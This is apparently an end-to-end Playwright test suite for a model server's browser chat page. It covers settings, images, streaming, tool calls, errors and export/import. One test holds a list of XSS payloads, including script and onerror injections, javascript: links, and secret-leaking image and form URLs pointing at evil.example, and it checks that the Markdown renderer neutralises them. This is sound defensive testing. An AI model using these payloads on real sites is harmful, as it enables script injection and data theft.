"""The chat of the page at `/`, in a real browser: once with the demo model, otherwise with made-up answers."""

from __future__ import annotations

import json
import re
import shutil
import struct
import zlib
from base64 import b64decode, b64encode
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Locator, Page, Route, expect, sync_playwright

from tests.e2e.serving import Server, serve

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(shutil.which("chromium") is None, reason="Chromium is not installed"),
]
PROMPT = "How do I serve a model on two nodes?"
KEY = {"Authorization": "Bearer secret"}
USAGE = {
    "prompt_tokens": 20,
    "completion_tokens": 4,
    "total_tokens": 24,
    "prompt_tokens_details": {"cached_tokens": 16},
}
LENGTH_ERROR = {"message": "the prompt has 9001 tokens", "code": "context_length_exceeded"}

STREAM = """
(() => {
  const real = window.fetch;
  window.fetch = (url, options) => {
    if (!String(url).includes("/v1/")) return real(url, options);
    let stream;
    const body = new ReadableStream({start: controller => { stream = controller; }});
    const encoder = new TextEncoder();
    window.feed = event => stream.enqueue(encoder.encode(`data: ${JSON.stringify(event)}\\r\\n\\r\\n`));
    window.stop = () => stream.close();
    options.signal.addEventListener("abort", () => stream.error(options.signal.reason));
    return Promise.resolve(new Response(body));
  };
})();
"""
"""Answers of which the test sends each event itself, with `feed`."""


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with serve("--api-key", "secret", "--kv-cache-memory-bytes", str(16 << 20)) as server:
        yield server


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        arguments = ["--no-sandbox"]  # root runs it in CI
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=arguments)
        yield browser
        browser.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    page = browser.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    yield page
    page.unroute_all(behavior="ignoreErrors")  # the page polls: an answer may be under way
    page.close()
    assert errors == []


@dataclass
class Answers:
    """What the server seems to answer: the next of these to each request. Keeps what it was asked."""

    next: list[tuple[int, str]] = field(default_factory=list)
    asked: list[dict[str, Any]] = field(default_factory=list)
    paths: list[str] = field(default_factory=list)
    keys: list[str] = field(default_factory=list)

    def text(self, text: str, *, usage: bool = True, **choice: Any) -> None:
        """Answer with this text; `choice` has more fields of its event."""
        self.events({"choices": [{"delta": {"content": text}, "finish_reason": "stop", **choice}]}, usage=usage)

    def events(self, *events: dict[str, Any], usage: bool = True, end: str = "data: [DONE]\n\n") -> None:
        last = [{"choices": [], "usage": USAGE}] if usage else []
        self.next.append((200, "".join(f"data: {json.dumps(event)}\n\n" for event in [*events, *last]) + end))

    def error(self, status: int, **error: Any) -> None:
        self.next.append((status, json.dumps({"error": error})))

    def __call__(self, route: Route) -> None:
        request = route.request
        asked = request.post_data_json
        assert asked is not None
        self.asked.append(asked)
        self.paths.append(request.url.partition("/v1")[2])
        self.keys.append(request.headers["authorization"])
        status, body = self.next.pop(0)
        kind = "text/event-stream" if status == 200 else "application/json"
        route.fulfill(status=status, body=body, content_type=kind)


@pytest.fixture
def answers(page: Page) -> Answers:
    answers = Answers()
    page.route("**/v1/**", answers)
    return answers


def open_chat(page: Page, server: Server) -> None:
    page.goto(f"{server.url}/#chat")
    page.get_by_label("API key").fill("secret")
    page.get_by_role("button", name="Use it").click()
    expect(page.locator("#status")).to_have_text("ready")


@pytest.fixture
def chat(page: Page, server: Server, answers: Answers) -> Page:
    """An empty chat with made-up answers."""
    open_chat(page, server)
    return page


def button(page: Page | Locator, name: str) -> Locator:
    return page.get_by_role("button", name=name, exact=True)


def ask(page: Page, text: str) -> None:
    """Send a message, and wait for the end of its answer."""
    page.get_by_label("Message", exact=True).fill(text)
    page.keyboard.press("Enter")
    expect(turns(page).last).not_to_have_attribute("aria-busy", "true", timeout=60_000)
    expect(button(page, "Send")).to_be_visible()


def turns(page: Page) -> Locator:
    return page.get_by_role("log").get_by_role("article")


def test_the_demo_model_answers_two_turns_and_the_browser_keeps_them(server: Server, page: Page) -> None:
    asked: list[Any] = []
    page.on("request", lambda each: asked.append(each.post_data_json) if "/v1/" in each.url else None)
    open_chat(page, server)
    page.get_by_label("temperature").fill("0")
    page.get_by_label("max_tokens").fill("100")
    ask(page, PROMPT)
    message = {"role": "user", "content": PROMPT}
    body = {"messages": [message], "temperature": 0, "max_tokens": 100}
    assert asked == [body | {"stream": True, "stream_options": {"include_usage": True}}]
    whole = httpx.post(f"{server.url}/v1/chat/completions", json=body, headers=KEY, timeout=60).json()
    said, usage = whole["choices"][0]["message"]["content"], whole["usage"]
    rendered = page.evaluate(
        """async text => {
            const {markdown} = await import(new URL("ui/files/markdown.js", location));
            const around = document.createElement("div");
            around.append(markdown(text));
            return around.textContent;
        }""",
        said,
    )
    expect(turns(page).nth(1).locator(".answer")).to_have_text(rendered)
    count = f"{usage['prompt_tokens']} → {usage['completion_tokens']} tokens"
    expect(turns(page).nth(1).locator(".figures")).to_have_text(re.compile(rf"^{count}TTFT .* m?s[\d.]+ s"))

    ask(page, "And on three?")
    answer = {"role": "assistant", "content": said}
    assert asked[1]["messages"] == [message, answer, {"role": "user", "content": "And on three?"}]

    page.reload()
    page.get_by_role("button", name=PROMPT, exact=False).first.click()
    expect(turns(page)).to_have_count(4)
    expect(turns(page).nth(1).locator(".answer")).to_have_text(rendered)
    expect(page.get_by_label("max_tokens")).to_have_value("100")


def test_settings_are_sent_and_wrong_ones_are_not(chat: Page, answers: Answers) -> None:
    values = {
        "System prompt": "Be brief.",
        "temperature": "0.7",
        "top_p": "0.9",
        "top_k": "40",
        "min_p": "0.05",
        "max_tokens": "64",
        "seed": "7",
        "presence_penalty": "0.1",
        "frequency_penalty": "-0.2",
        "stop": "END\n\\n\\n",
        "Tools": '[{"type": "function", "function": {"name": "now"}}]',
        "JSON schema": '{"type": "object"}',
    }
    for name, value in values.items():
        chat.get_by_label(name, exact=True).fill(value)
    chat.get_by_label("Thinking").select_option("off")
    chat.get_by_label("Effort").select_option("low")
    chat.get_by_label("Tool choice").select_option("required")
    chat.get_by_label("Show log-probabilities").check()
    answers.text("{}")
    ask(chat, "hello")
    sent = {
        "messages": [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "hello"}],
        "stream": True,
        "stream_options": {"include_usage": True},
        "temperature": 0.7,
        "top_p": 0.9,
        "top_k": 40,
        "min_p": 0.05,
        "max_tokens": 64,
        "seed": 7,
        "presence_penalty": 0.1,
        "frequency_penalty": -0.2,
        "stop": ["END", "\n\n"],
        "chat_template_kwargs": {"enable_thinking": False, "thinking": False},
        "reasoning_effort": "low",
        "tools": [{"type": "function", "function": {"name": "now"}}],
        "tool_choice": "required",
        "response_format": {"type": "json_schema", "json_schema": {"name": "answer", "schema": {"type": "object"}}},
        "logprobs": True,
        "top_logprobs": 5,
    }
    assert answers.asked == [sent]

    wrong = {
        "temperature": ("warm", '"warm" is not a number'),
        "top_k": ("1.5", '"1.5" is not a whole number'),
        "Tools": ('[{"type": "function"}]', 'entry 1 must be {"type": "function", "function": {"name": …}}'),
        "JSON schema": ('{"type": ', "not valid JSON: Unexpected end of JSON input"),
    }
    for name, (text, why) in wrong.items():
        setting = chat.get_by_label(name, exact=True)
        setting.fill(text)
        expect(setting).to_have_accessible_description(why)
        chat.get_by_label("Message", exact=True).fill("again")
        chat.keyboard.press("Enter")
        expect(chat.get_by_role("status").filter(has_text=why)).to_be_visible()
        expect(setting).to_be_focused()
        expect(chat.get_by_label("Message", exact=True)).to_have_value("again")
        setting.fill("")
    assert len(answers.asked) == 1
    button(chat, "Reset").click()
    answers.text("yes")
    ask(chat, "again")
    assert set(answers.asked[1]) == {"messages", "stream", "stream_options"}


def png(width: int, height: int) -> bytes:
    """A picture of one colour."""
    head = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(height * (1 + 3 * width)))
    chunks = [(b"IHDR", head), (b"IDAT", rows), (b"IEND", b"")]
    body = (
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data)) for name, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


GIVE = """
([way, name, bytes]) => {
  const files = new DataTransfer();
  files.items.add(new File([Uint8Array.from(bytes)], name, {type: "image/png"}));
  const data = way === "paste" ? {clipboardData: files} : {dataTransfer: files};
  const event = new (way === "paste" ? ClipboardEvent : DragEvent)(way, {...data, bubbles: true, cancelable: true});
  document.getElementById("chat-box").dispatchEvent(event);
}
"""


def test_pictures_are_chosen_pasted_or_dropped_and_sent_scaled_down(chat: Page, answers: Answers) -> None:
    media: dict[str, Any] = {"kinds": [], "problem": None}

    def with_media(route: Route) -> None:
        got = route.fetch()
        route.fulfill(response=got, json={**got.json(), "media": media})

    chat.route("**/ui/state", with_media)
    expect(button(chat, "Add pictures")).to_be_hidden()
    chat.evaluate(GIVE, ["drop", "a.png", [*png(2, 2)]])
    expect(chat.get_by_text("This model takes no pictures.")).to_be_visible()

    media |= {"kinds": ["image"], "problem": "being restarted"}
    expect(chat.locator("#reason")).to_have_text("being restarted")
    with chat.expect_file_chooser() as chooser:
        button(chat, "Add pictures").click()
    small, large = png(40, 30), png(4096, 1024)
    chooser.value.set_files({"name": "small.png", "mimeType": "image/png", "buffer": small})
    drafted = chat.locator("#chat-pictures")
    expect(drafted.get_by_role("img")).to_have_count(1)
    chat.evaluate(GIVE, ["paste", "large.png", [*large]])
    expect(drafted.get_by_role("img")).to_have_count(2)
    chat.evaluate(GIVE, ["drop", "broken.png", [1, 2, 3]])
    expect(chat.get_by_text("broken.png is not a picture that this browser can read.")).to_be_visible()
    chat.evaluate(GIVE, ["drop", "third.png", [*png(2, 2)]])
    button(chat, "Remove picture 3").click()
    expect(drafted.get_by_role("img")).to_have_count(2)
    answers.text("black")
    ask(chat, "What colour?")
    expect(drafted).to_be_hidden()
    first, second, text = answers.asked[0]["messages"][0]["content"]
    assert text == {"type": "text", "text": "What colour?"}
    assert first == {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{b64encode(small).decode()}"}}
    scaled = b64decode(second["image_url"]["url"].removeprefix("data:image/png;base64,"))
    assert struct.unpack(">2I", scaled[16:24]) == (2048, 512)
    expect(turns(chat).first.get_by_role("img")).to_have_count(2)

    answers.text("yes")
    ask(chat, "Sure?")
    assert answers.asked[1]["messages"][0] == answers.asked[0]["messages"][0]
    chat.reload()
    chat.get_by_role("button", name="What colour?", exact=False).first.click()
    expect(turns(chat).first.get_by_text("Picture 2 was not kept")).to_be_visible()
    answers.text("no")
    ask(chat, "Still?")
    assert answers.asked[2]["messages"][0] == {"role": "user", "content": "What colour?"}


HOSTILE = [
    "<script>attack()</script>",
    "<img src=x onerror=attack()>",
    "<img src=https://evil.example/pixel.png>",
    "![leak](https://evil.example/?secret)",
    "[click](javascript:attack())",
    "[click](data:text/html,<script>attack()</script>)",
    "[click](vbscript:attack)",
    '[click](https://evil.example" onmouseover="attack() "title")',
    "<svg onload=attack()><use href='data:image/svg+xml,x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=attack()></style></mglyph></table></mtext></math>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<iframe src='https://evil.example' srcdoc='<script>parent.attack()</script>'></iframe>",
    "<form action='https://evil.example'><input name=key><button>Use it</button></form>",
    "<a href='javascript:attack()' onclick='attack()'>link</a>",
    "<kbd><img/src=x onerror=attack()",
    "<b onmouseover=attack() style='position:fixed;inset:0'>over everything</b>",
    "```html onload=attack()\n</code></pre><script>attack()</script>\n```",
    "`</code><img src=x onerror=attack()>`",
    "| <object data='https://evil.example'> | ![x](data:image/svg+xml;base64,PHN2Zz4=) |\n|---|---|\n| a | b |",
    "<https://evil.example/auto>",
    "<template><script>attack()</script></template><base href='https://evil.example/'><meta http-equiv=refresh>",
]

OWN = (
    "a, blockquote, button, code, details, div, footer, h3, kbd, label, p, pre, section, span, summary, table, tbody, "
    "td, textarea, th, thead, tr"
)
"""The elements of answers."""


@pytest.mark.parametrize("mode", ["Markdown", "tokens"])
def test_nothing_in_a_hostile_answer_runs_or_is_loaded(chat: Page, server: Server, answers: Answers, mode: str) -> None:
    asked: list[str] = []
    chat.on("request", lambda request: asked.append(request.url))
    chat.evaluate("() => { window.attack = () => { window.attacked = true; }; }")
    everything = "\n\n".join(HOSTILE)
    call = {"index": 0, "id": HOSTILE[1], "function": {"name": HOSTILE[0], "arguments": HOSTILE[1]}}
    delta = {"content": everything, "reasoning_content": everything, "tool_calls": [call]}
    top = [{"token": HOSTILE[1], "logprob": 0.0}]
    scores = {"content": [{"token": everything, "logprob": 0.0, "top_logprobs": top}]} if mode == "tokens" else None
    answers.events({"choices": [{"delta": delta, "finish_reason": "stop", "logprobs": scores}]})
    ask(chat, HOSTILE[1])
    answer = turns(chat).last
    if mode == "tokens":
        answer.locator(".token").hover(position={"x": 2, "y": 2})
        expect(chat.get_by_role("tooltip")).to_contain_text(HOSTILE[1].replace(" ", "␣"))
    expect(turns(chat).locator(f":not({OWN})")).to_have_count(0)
    attributes = set(answer.locator("*").evaluate_all("all => all.flatMap(each => each.getAttributeNames())"))
    assert not {name for name in attributes if name.startswith("on")}
    assert not attributes & {"src", "srcdoc", "action", "name", "style" if mode == "Markdown" else "src"}
    links = answer.locator("a").evaluate_all("all => all.map(each => [each.href, each.target, each.rel])")
    if mode == "Markdown":
        assert {url for url, *_ in links} >= {"https://evil.example/auto", "https://evil.example/?secret"}
    for url, *how in links:
        assert url.startswith("https://evil.example")
        assert how == ["_blank", "noopener noreferrer"]
    for text in ("<script>attack()</script>", "over everything", "<iframe src=", "javascript:attack()"):
        expect(answer.locator(".answer")).to_contain_text(text)  # shown, not lost
    assert chat.evaluate("typeof window.attack") == "function"
    assert chat.evaluate("window.attacked") is None
    assert {url for url in asked if not url.startswith(server.url)} == set()


PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="


def test_pictures_in_an_answer_are_shown_and_code_is_copied(chat: Page, answers: Answers) -> None:
    pictures = f"![dot](data:image/png;base64,{PICTURE}) ![far](https://evil.example/x.png)"
    answers.text(f"{pictures}\n\n```py\na = 1\n  b\n```")
    ask(chat, "hello")
    picture = chat.get_by_role("img", name="dot")
    expect(picture).to_have_js_property("naturalWidth", 1)
    expect(chat.get_by_text("Image (not loaded): far")).to_be_visible()
    expect(chat.get_by_role("link", name="far")).to_have_attribute("title", "https://evil.example/x.png")
    box = chat.get_by_label("Message", exact=True)
    chat.locator(".code").get_by_role("button", name="Copy code").dblclick()
    expect(chat.locator(".code button")).to_have_text("Copied")
    box.press("Control+v")
    expect(box).to_have_value("a = 1\n  b")
    chat.evaluate("Object.defineProperty(navigator, 'clipboard', {value: undefined})")  # as on http:// of another host
    button(turns(chat).first, "Copy").click()
    expect(button(turns(chat).first, "Copied")).to_be_visible()
    box.fill("")
    box.press("Control+v")
    expect(box).to_have_value("hello")
    expect(chat.locator(".code button")).to_have_text("Copy")


GROWING = """# Title

[1]: https://example.org/

A paragraph with *emphasis*, [a reference][1] and \\( x_1 \\),
and a second line
===

- one

- two

      indented

1. first
   ```python
   nested = "code"
   ```
2. second

| a | b |
|---|--:|
| 1 | <br> |

```
<not html>

still code
```
> quote
lazy

<div>
raw
</div>

- [x] done

End with [a reference][1], `code` and **strong**"""


def test_a_growing_answer_is_rendered_as_a_whole_one(chat: Page) -> None:
    """Whatever the pieces are; and what cannot change any more is not made again."""
    different = chat.evaluate(
        """async text => {
            const {GrowingMarkdown, markdown} = await import(new URL("ui/files/markdown.js", location));
            const whole = document.createElement("div");
            whole.append(markdown(text));
            const different = [];
            for (const step of [1, 2, 3, 7, 40, 1000]) {
                const grown = document.createElement("div"), growing = new GrowingMarkdown(grown);
                let title = null;
                for (let end = step; end < text.length + step; end += step) {
                    growing.show(text.slice(0, end));
                    if (end > 120) title ??= grown.firstChild;
                }
                if (grown.innerHTML !== whole.innerHTML || title !== grown.firstChild)
                    different.push([step, grown.innerHTML]);
            }
            return different.length ? [...different, whole.innerHTML] : [];
        }""",
        GROWING,
    )
    assert different == []


def test_an_answer_grows_can_be_stopped_and_is_announced_once(page: Page, server: Server) -> None:
    page.add_init_script(STREAM)
    open_chat(page, server)
    box = page.get_by_label("Message", exact=True)
    box.fill("line")
    box.press("Shift+Enter")
    box.press_sequentially("two")
    box.dispatch_event("keydown", {"key": "Enter", "isComposing": True})  # chooses a character
    assert turns(page).count() == 0
    box.press("Enter")
    answer = turns(page).last
    expect(turns(page).first.locator(".text")).to_have_text("line\ntwo", use_inner_text=True)
    expect(button(page, "Stop")).to_be_visible()
    page.evaluate("feed({choices: [{delta: {reasoning_content: 'Let me'}}]})")
    expect(answer.locator("summary")).to_have_text("Reasoning…")
    page.evaluate("feed({choices: [{delta: {content: 'It **is'}}]})")
    expect(answer.locator("summary")).to_have_text(re.compile(r"^Reasoned for \d\.\d s$"))
    expect(answer.locator(".answer")).to_have_text("It **is")
    page.evaluate("feed({choices: [{delta: {content: '**'}}]})")
    expect(answer.locator("strong")).to_have_text("is")
    expect(answer).to_have_attribute("aria-live", "off")
    expect(answer.locator("details .text")).to_be_hidden()
    answer.locator("summary").click()
    page.get_by_role("log").evaluate(
        """log => new MutationObserver(changes => {
            window.added = changes.flatMap(each => [...each.addedNodes]).map(each => each.textContent);
        }).observe(log, {childList: true})"""
    )
    button(page, "New conversation").click()  # the answer goes on meanwhile
    expect(turns(page)).to_have_count(0)
    page.evaluate("feed({choices: [{delta: {content: ' so'}}]})")
    page.get_by_role("button", name=re.compile("answering")).click()
    expect(turns(page).last.locator(".answer")).to_have_text("It is so")
    page.evaluate("added.length = 0")
    page.keyboard.press("Escape")
    expect(box).to_be_focused()
    expect(turns(page).last.locator(".figures")).to_contain_text("stopped")
    (whole,) = page.evaluate("added")
    assert "It is so" in whole
    expect(turns(page).last).not_to_have_attribute("aria-live", "off")


def test_turns_can_be_regenerated_edited_and_deleted(chat: Page, answers: Answers) -> None:
    for each in ("one", "two"):
        answers.text(f"answer to {each}")
        ask(chat, each)
    answers.text("another answer")
    button(turns(chat).last, "Regenerate").click()
    expect(turns(chat).last.locator(".answer")).to_have_text("another answer")
    assert answers.asked[2] == answers.asked[1]

    button(turns(chat).nth(2), "Delete").click()
    expect(turns(chat)).to_have_count(2)
    button(chat, "Undo").click()
    expect(turns(chat)).to_have_count(4)

    first = turns(chat).first
    first.hover()
    button(first, "Edit").click()
    first.get_by_label("Message").fill("changed")
    answers.text("answer to the change")
    first.get_by_label("Message").press("Enter")
    expect(turns(chat)).to_have_text([re.compile("changed"), re.compile("answer to the change")])
    assert [each["content"] for each in answers.asked[3]["messages"]] == ["changed"]

    button(chat, "Delete one").click()
    expect(turns(chat)).to_have_count(0)
    assert chat.evaluate("localStorage.length") == 0
    button(chat, "Undo").click()
    expect(turns(chat)).to_have_count(2)


def test_errors_are_shown_in_place_and_nothing_is_lost(chat: Page, answers: Answers) -> None:
    failure = chat.get_by_role("alert")
    answers.error(400, **LENGTH_ERROR)
    ask(chat, "much text")
    expect(failure).to_contain_text("Error 400: the prompt has 9001 tokens")
    expect(failure).to_contain_text("Delete or shorten turns, lower max_tokens, or start a new conversation.")
    expect(turns(chat).first).to_contain_text("much text")

    half = {"choices": [{"delta": {"content": "half of it"}}]}
    answers.events(half, {"error": {"message": "replica 0 has died", "code": 500}}, usage=False)
    button(failure, "Try again").click()
    expect(failure).to_contain_text("Error: replica 0 has died")
    expect(turns(chat).last.locator(".answer")).to_have_text("half of it")
    answers.events(half, usage=False, end="")
    button(failure, "Try again").click()
    expect(failure).to_contain_text("The connection ended before the answer was complete.")

    answers.error(401, message="the key is not valid")
    button(failure, "Try again").click()
    expect(failure).to_contain_text("Enter an API key above, then try again.")
    chat.evaluate("sessionStorage.setItem('quire-key', 'another')")
    answers.text("done")
    button(failure, "Try again").click()
    expect(failure).to_have_count(0)
    assert answers.keys == ["Bearer secret"] * 4 + ["Bearer another"]
    assert all(each == answers.asked[0] for each in answers.asked)

    answers.error(403, message="the key may only read metrics")
    button(turns(chat).last, "Regenerate").click()
    expect(failure).to_contain_text("Forget the key (above) and enter an API key.")


def test_a_message_without_an_answer_is_not_sent_again(chat: Page, answers: Answers) -> None:
    def sent(text: str) -> list[str]:
        ask(chat, text)
        return [f"{each['role']}: {each['content']}" for each in answers.asked[-1]["messages"]]

    left_out = chat.get_by_text("Later requests leave this message out, unless its answer is regenerated.")
    answers.text("1")
    assert sent("one") == ["user: one"]
    answers.error(503, message="the queue is full")
    assert sent("two")[-1] == "user: two"
    expect(left_out).to_have_count(1)
    answers.text("")
    assert sent("three") == ["user: one", "assistant: 1", "user: three"]
    expect(left_out).to_have_count(2)
    answers.text("3")
    button(turns(chat).last, "Regenerate").click()
    expect(left_out).to_have_count(1)
    half = {"choices": [{"delta": {"content": "half"}}]}
    answers.events(half, {"error": {"message": "replica 0 has died"}}, usage=False)
    answered = ["user: one", "assistant: 1", "user: three", "assistant: 3"]
    assert sent("four") == [*answered, "user: four"]
    answers.text("5")
    assert sent("five") == [*answered, "user: four", "assistant: half", "user: five"]
    expect(left_out).to_have_count(1)


def test_tool_calls_are_shown_and_answered(chat: Page, answers: Answers) -> None:
    def call(index: int, **function: str) -> dict[str, Any]:
        return {"index": index, "function": function}

    parts: list[dict[str, Any]] = [
        {"content": "Let me see."},
        {"reasoning_content": "Two calls."},
        {"tool_calls": [call(0, name="weather", arguments="") | {"id": "a"}]},
        {"tool_calls": [call(0, arguments='{"city":')]},
        {"tool_calls": [call(0, arguments=' "Bern"}'), call(1, name="now", arguments="{}") | {"id": "b"}]},
    ]
    ends = {"choices": [{"delta": {}, "finish_reason": "tool_calls"}]}
    answers.events(*({"choices": [{"delta": part}]} for part in parts), ends)
    ask(chat, "Weather?")
    cards = chat.locator(".call")
    expect(cards.first).to_contain_text('{\n  "city": "Bern"\n}', use_inner_text=True)
    expect(chat.get_by_label("Result of weather")).to_be_focused()
    chat.get_by_label("Result of weather").fill('{"celsius": 21}')
    chat.get_by_label("Result of now").fill("18:05")
    answers.text("It is warm.")
    button(chat, "Send results").click()
    expect(turns(chat).last.locator(".answer")).to_have_text("It is warm.")
    assert answers.asked[1]["messages"][1:] == [
        {
            "role": "assistant",
            "content": "Let me see.",
            "reasoning_content": "Two calls.",
            "tool_calls": [
                {"id": "a", "type": "function", "function": {"name": "weather", "arguments": '{"city": "Bern"}'}},
                {"id": "b", "type": "function", "function": {"name": "now", "arguments": "{}"}},
            ],
        },
        {"role": "tool", "tool_call_id": "a", "name": "weather", "content": '{"celsius": 21}'},
        {"role": "tool", "tool_call_id": "b", "name": "now", "content": "18:05"},
    ]


def test_an_answer_to_a_schema_is_shown_as_json(page: Page, server: Server) -> None:
    page.add_init_script(STREAM)
    open_chat(page, server)
    page.get_by_label("JSON schema").fill('{"type": "object"}')
    box = page.get_by_label("Message", exact=True)
    box.fill("hello")
    box.press("Enter")
    shown = turns(page).last.locator(".answer")
    raw = ['{"a": "*b* `c` \\\\(d_e_\\\\)", "f": 12345678901234567890', ', "g": [1.0]}']
    page.evaluate("text => feed({choices: [{delta: {content: text}}]})", raw[0])
    expect(shown).to_have_text(raw[0], use_inner_text=True)
    page.evaluate("text => feed({choices: [{delta: {content: text}, finish_reason: 'stop'}]})", raw[1])
    page.evaluate("stop()")
    lines = ["{", '  "a": "*b* `c` \\\\(d_e_\\\\)",', '  "f": 12345678901234567890,', '  "g": [', "    1.0", "  ]", "}"]
    expect(shown.locator("pre")).to_have_text("\n".join(lines), use_inner_text=True)
    for copies in (turns(page).last.locator(".code button"), turns(page).last.locator("footer button").first):
        copies.click()
        expect(copies).to_have_text("Copied")
        box.fill("")
        box.press("Control+v")
        expect(box).to_have_value("".join(raw))
    page.reload()
    page.get_by_role("button", name="hello", exact=False).first.click()
    expect(shown.locator("pre")).to_have_text("\n".join(lines), use_inner_text=True)


def test_log_probabilities_of_tokens(chat: Page, answers: Answers) -> None:
    def scored(token: str, logprob: float, **rest: Any) -> dict[str, Any]:
        return {"token": token, "logprob": logprob, "bytes": list(rest.pop("raw", token.encode())), **rest}

    euro = "€".encode()
    content = [
        scored("It", -0.01, top_logprobs=[scored("It", -0.01), scored("They", -4.6)]),
        scored("\\xe2\\x82", -0.7, raw=euro[:2], top_logprobs=[scored("$", -0.69), scored("\\xe2\\x82", -0.7)]),
        scored("\\xac", 0.0, raw=euro[2:], top_logprobs=[]),
        scored("\n" * 99, 0.0),
        scored("End", -0.1),
    ]
    answers.text("It€\n\nEnd", logprobs={"content": content})
    ask(chat, "hello")
    tokens = chat.locator(".token")
    expect(tokens).to_have_text(["It", "·", "€", "", "End"])
    tokens.first.hover()
    tip = chat.get_by_role("tooltip")
    expect(tip.locator("tr")).to_have_text(["It99.0 %", "They1.01 %"])
    tokens.first.focus()
    chat.keyboard.press("ArrowRight")
    expect(tokens.nth(1)).to_be_focused()
    expect(tip.locator("tr")).to_have_text(["$50.2 %", "\\xe2\\x8249.7 %"])
    expect(tip.locator(".chosen")).to_have_count(1)
    for _ in range(3):
        chat.keyboard.press("ArrowRight")
    chat.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")  # has scrolled
    expect(tokens.last).to_be_in_viewport()
    expect(tip.locator("tr")).to_have_text("End90.5 %")
    chat.mouse.move(0, 0)
    chat.get_by_role("log").evaluate("log => log.scrollTo(0, 0)")
    expect(tip).to_be_hidden()
    button(chat, "As text").click()
    expect(tokens).to_have_count(0)
    expect(turns(chat).last.locator(".answer")).to_have_text("It€ End")


def test_completions_have_the_raw_prompt_and_plain_text(chat: Page, answers: Answers) -> None:
    chat.get_by_label("System prompt").fill("not sent")
    chat.get_by_label("API", exact=True).select_option("completion")
    expect(chat.get_by_label("System prompt")).to_be_hidden()
    chat.get_by_label("Show log-probabilities").check()
    names = ["**a", "**"]
    scores = {"tokens": names, "token_logprobs": [-0.1, -0.2], "top_logprobs": [{"**a": -0.1}, {"**": -0.2}]}
    answers.events({"choices": [{"text": "**a**", "logprobs": scores, "finish_reason": "length"}]})
    ask(chat, "one ")
    expect(chat.locator(".token")).to_have_text(names)
    button(chat, "As text").click()
    expect(turns(chat).last.locator(".answer")).to_have_text("**a**")
    expect(turns(chat).last.locator(".figures")).to_contain_text("the token limit is reached")
    answers.events({"choices": [{"text": "b", "finish_reason": "stop"}]})
    ask(chat, "two")
    assert answers.paths == ["/completions", "/completions"]
    assert answers.asked == [
        {"prompt": prompt, "stream": True, "stream_options": {"include_usage": True}, "logprobs": 5}
        for prompt in ("one ", "two")
    ]


def test_an_exported_conversation_is_a_request_and_can_be_imported(
    chat: Page, answers: Answers, tmp_path: Path
) -> None:
    chat.get_by_label("System prompt").fill("Be brief.")
    chat.get_by_label("stop").fill("a\\n\nb")
    chat.get_by_label("JSON schema").fill('{"type": "object"}')
    call = {"index": 0, "id": "a", "function": {"name": "now", "arguments": "{}"}}
    answers.events({"model": "m", "choices": [{"delta": {"tool_calls": [call]}, "finish_reason": "tool_calls"}]})
    ask(chat, "hello")
    chat.get_by_label("Result of now").fill("18:05")
    answers.text("It is `late`.\n\n```\ncode\n```")
    button(chat, "Send results").click()
    expect(turns(chat)).to_have_count(3)

    def save(name: str) -> Path:
        with chat.expect_download() as download:
            button(chat, name).click()
        saved = tmp_path / download.value.suggested_filename
        download.value.save_as(saved)
        return saved

    exported = save("Export as JSON")
    body = json.loads(exported.read_text())
    assert exported.name == "hello.json"
    assert body.pop("metadata").keys() == {"title", "mode", "created"}
    assert body.pop("model") == "m"
    sent = answers.asked[1]
    sent["messages"].append({"role": "assistant", "content": "It is `late`.\n\n```\ncode\n```"})
    assert body == {name: value for name, value in sent.items() if not name.startswith("stream")}
    assert save("Export as Markdown").read_text() == (
        "# hello\n\n## System\n\nBe brief.\n\n## User\n\nhello\n\n"
        "## Assistant\n\nCall of `now`:\n\n```json\n{}\n```\n\n"
        "Result:\n\n```\n18:05\n```\n\n## Assistant\n\n````json\nIt is `late`.\n\n```\ncode\n```\n````\n"
    )
    everything = save("Export all")
    chat.on("dialog", lambda dialog: dialog.accept())
    button(chat, "Delete all").click()
    expect(turns(chat)).to_have_count(0)
    assert chat.evaluate("localStorage.length") == 0

    def load(path: Path) -> None:
        with chat.expect_file_chooser() as chooser:
            button(chat, "Import").click()
        chooser.value.set_files(path)

    load(everything)
    expect(turns(chat)).to_have_count(3)
    answers.text("again")
    button(turns(chat).last, "Regenerate").click()
    expect(turns(chat).last.locator(".answer pre")).to_have_text("again")
    sent["messages"].pop()
    assert answers.asked[2] == sent
    for text, why in (
        ("{", "cannot be imported: Expected property name"),
        ("{}", "there is no array of messages"),
        ('[{"role": "user", "content": [{"type": "image_url"}]}]', "messages[0].content: only text can be imported"),
        ('[{"role": "tool", "tool_call_id": "x", "content": ""}]', 'there is no call "x" before its result'),
    ):
        bad = tmp_path / "bad.json"
        bad.write_text(text)
        load(bad)
        expect(chat.get_by_role("status").filter(has_text=why)).to_be_visible()
    expect(turns(chat)).to_have_count(3)


def test_a_full_storage_loses_the_oldest_conversation_and_says_so(chat: Page, answers: Answers) -> None:
    for each in ("first", "second"):
        button(chat, "New conversation").click()
        answers.text(each * 10_000)
        ask(chat, each)
    fill = "localStorage.setItem('other', 'x'.repeat(size))"
    chat.evaluate(
        f"""() => {{
            let size = 0;
            for (let step = 1 << 23; step >= 256; step /= 2)
                try {{ size += step; {fill}; }} catch {{ size -= step; }}
            {fill};
        }}"""
    )
    button(chat, "New conversation").click()
    answers.text("third" * 10_000)
    ask(chat, "third")
    says = chat.get_by_role("status").filter(has_text="storage is full")
